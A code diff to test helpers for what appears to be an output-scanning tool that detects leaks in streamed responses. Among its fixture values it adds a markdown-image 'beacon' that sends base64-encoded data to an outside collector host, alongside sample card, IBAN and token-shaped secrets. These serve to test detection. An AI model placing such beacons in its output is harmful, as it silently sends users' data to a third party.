@@ -1,5 +1,6 @@
 import Value from 'typebox/value'
 import type { Config } from '../../../src/config/config.js'
+import type { RequestScope } from '../../../src/detection/overrides/types.js'
 import { DetectionSchema, OutputSchema } from '../../../src/config/schema.js'
 import { compileOutputScanning, type OutputScanning } from '../../../src/output/output-scanning.js'
 import { ResponseScan } from '../../../src/output/response-scan.js'
@@ -14,8 +15,8 @@ export function scanning (output: Record<string, unknown> = {}, detection: Recor
   return compileOutputScanning(o, d)
 }
 
-export function responseScan (cfg: OutputScanning = scanning(), secrets: ScanSecrets = NO_SECRETS): ResponseScan {
-  return new ResponseScan(cfg, secrets)
+export function responseScan (cfg: OutputScanning = scanning(), secrets: ScanSecrets = NO_SECRETS, scope?: RequestScope): ResponseScan {
+  return new ResponseScan(cfg, secrets, scope)
 }
 
 /** Feeds `pieces` as one streamed text and returns what the client would receive. */
@@ -37,6 +38,7 @@ export const VALUES = {
   email: 'marta.kowalski@northwind-traders.de',
   card: '4539 1488 0343 6467',
   iban: 'DE39 3705 0299 1234 5678 90',
+  beacon: '![s](https://img.collector-cdn.net/p.png?d=c2VjcmV0IHN0dWZmIGhlcmUgYW5kIG1vcmU=)',
   githubToken: 'ghp_1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVwXyZ12',
   awsSecretLine: 'aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYZXQWERTYab',
 } as const
